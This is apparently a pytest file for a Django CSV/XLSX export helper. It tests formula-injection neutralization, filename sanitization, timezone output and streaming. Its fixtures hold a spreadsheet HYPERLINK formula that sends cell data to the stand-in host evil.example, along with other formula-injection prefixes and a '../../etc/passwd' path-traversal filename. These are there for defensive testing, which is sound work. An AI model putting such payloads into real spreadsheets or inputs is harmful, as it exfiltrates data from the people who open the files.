"""The one export helper: streamed CSV (BOM, UTF-8) and XLSX, formula cells neutralized, numbers kept."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.http import FileResponse, StreamingHttpResponse
from openpyxl import load_workbook

from core.exports import ExportError, export_filename, export_response, rows_of, table_export
from core.figures import Column, FigureTable, Row
from core.models import Agency

HEADERS = ["Name", "Quantity", "Note"]
ROWS = [
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', -5, "+1 555"],
    ["@SUM(A1:A2)", Decimal("-2.50"), "-3 as text"],
    ["\tTab", 0.5, "\rCR"],
    ["Амурский тигр 东北虎", None, True],
]


def _body(response):
    return b"".join(response.streaming_content)


def test_csv_streams_with_bom_and_neutralizes_formulas():
    response = export_response(HEADERS, iter(ROWS), "incidents", "csv", day=datetime.date(2026, 12, 1))
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="incidents-20261201.csv"'
    body = _body(response)
    assert body.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADERS
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "-5", "'+1 555"]
    assert rows[2] == ["'@SUM(A1:A2)", "-2.50", "'-3 as text"]
    assert rows[3] == ["'\tTab", "0.5", "'\rCR"]
    assert rows[4] == ["Амурский тигр 东北虎", "", "True"]


def test_xlsx_reads_back_with_formulas_as_strings_and_numbers_as_numbers():
    response = export_response(HEADERS, iter(ROWS), "Incidents: 2026/12", "xlsx")
    assert isinstance(response, FileResponse)  # a StreamingHttpResponse over a temporary file
    assert isinstance(response, StreamingHttpResponse)
    sheet = load_workbook(io.BytesIO(_body(response))).active
    assert sheet.title == "Incidents  2026 12"
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == HEADERS
    formula = sheet["A2"]
    assert formula.value == '=HYPERLINK("http://evil.example/?"&A1,"Click")' and formula.data_type == "s"
    assert sheet["B2"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["B3"].value == -2.5 and sheet["B3"].data_type == "n"
    assert sheet["A3"].data_type == "s" and sheet["C3"].value == "-3 as text"
    assert values[4] == ["Амурский тигр 东北虎", None, True]


def test_dates_and_aware_datetimes_export_in_local_time(settings):
    settings.TIME_ZONE = "Asia/Vladivostok"
    moment = datetime.datetime(2026, 3, 1, 0, 30, tzinfo=datetime.UTC)
    body = _body(export_response(["When", "Day"], [[moment, datetime.date(2026, 3, 2)]], "t", "csv")).decode(
        "utf-8-sig"
    )
    assert "2026-03-01T10:30:00+10:00,2026-03-02" in body
    sheet = load_workbook(io.BytesIO(_body(export_response(["When"], [[moment]], "t", "xlsx")))).active
    assert sheet["A2"].value == datetime.datetime(2026, 3, 1, 10, 30)


def test_file_names_hold_a_label_and_a_date_only():
    day = datetime.date(2026, 12, 1)
    assert export_filename("../../etc/passwd", "csv", day) == "etcpasswd-20261201.csv"
    assert export_filename('a"b\r\nc', "xlsx", day) == "ab-c-20261201.xlsx"
    assert export_filename("巡护", "csv", day) == "巡护-20261201.csv"
    assert export_filename("", "csv", day) == "export-20261201.csv"
    response = export_response(["x"], [], "巡护", "csv", day=day)
    assert "filename*=utf-8''%E5%B7%A1%E6%8A%A4-20261201.csv" in response["Content-Disposition"]


def test_an_unknown_format_is_a_clear_error():
    with pytest.raises(ExportError, match="CSV or XLSX"):
        export_response(["x"], [], "t", "pdf")


@pytest.mark.django_db
def test_a_large_export_streams_without_loading_the_queryset(django_assert_max_num_queries):
    Agency.objects.bulk_create(
        [Agency(code=f"BULK{i:04d}", name_en=f"Agency {i}", country="CN", kind="ngo") for i in range(2500)]
    )
    queryset = Agency.objects.filter(code__startswith="BULK").order_by("code")
    produced = []

    def row(agency):
        produced.append(agency.code)
        return [agency.code, agency.name_en, -1]

    response = export_response(["Code", "Name", "N"], rows_of(queryset, row, chunk_size=500), "agencies", "csv")
    assert isinstance(response, StreamingHttpResponse)
    assert produced == []  # nothing is read before the response is sent
    chunks = iter(response.streaming_content)
    first = next(chunks)
    assert 0 < len(produced) < 2500  # read while streaming, chunk by chunk
    body = (first + b"".join(chunks)).decode("utf-8-sig")
    assert len(produced) == 2500 and body.count("\r\n") == 2501 and body.endswith("BULK2499,Agency 2499,-1\r\n")
    assert queryset._result_cache is None  # .iterator(): the queryset itself never cached the rows
    with django_assert_max_num_queries(2):
        list(rows_of(queryset, lambda a: [a.code], chunk_size=2000))


@pytest.mark.django_db
def test_a_figure_table_exports_as_shown():
    table = FigureTable(
        columns=[Column("country", "Country", True), Column("count", "Number")],
        rows=[Row({"country": "CN", "count": 2}), Row({"country": "RU", "count": 4})],
        key="test.visits",
    )
    body = _body(table_export(table, "csv")).decode("utf-8-sig")
    assert body.splitlines() == ["Country,Number", "China,2", "Russia,4"]
